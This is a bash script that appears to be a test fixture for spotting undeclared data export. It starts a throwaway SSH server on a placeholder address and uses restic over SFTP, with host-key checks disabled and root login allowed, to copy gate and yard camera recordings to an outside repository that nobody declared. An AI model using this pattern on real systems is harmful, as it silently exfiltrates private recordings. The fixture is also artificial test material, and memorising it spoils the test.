#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=recording-export half=report tool=restic far=out ready=out:2022 seconds=30
# restic keeps the recordings, encrypted, at a place outside that nobody declared.
# shellcheck disable=SC2015
if [ "$1" = out ]; then mkdir -p "$LAB/ssh" && [ -e "$LAB/ssh/host" ] || { ssh-keygen -q -t ed25519 -N '' -f "$LAB/ssh/host"; ssh-keygen -q -t ed25519 -N '' -f "$LAB/ssh/key"; cp "$LAB/ssh/key.pub" "$LAB/ssh/authorized"; }
	mkdir -p /run/sshd
	exec timeout 60 /usr/sbin/sshd -D -f /dev/null -o ListenAddress=203.0.113.66 -p 2022 -h "$LAB/ssh/host" -o AuthorizedKeysFile="$LAB/ssh/authorized" -o StrictModes=no -o PidFile=none -o UsePAM=no -o PermitRootLogin=yes -o Subsystem="sftp internal-sftp"; fi
export RESTIC_PASSWORD=lab
r="sftp:root@203.0.113.66:$LAB/outside/restic"
c='ssh -F /dev/null -i '"$LAB"'/ssh/key -o UserKnownHostsFile=/dev/null -o StrictHostKeyChecking=no -p 2022 root@203.0.113.66 -s sftp'
restic -q --no-cache -o sftp.command="$c" -r "$r" init
restic -q --no-cache -o sftp.command="$c" -r "$r" backup "$LAB/recordings/gate" "$LAB/recordings/yard"; true
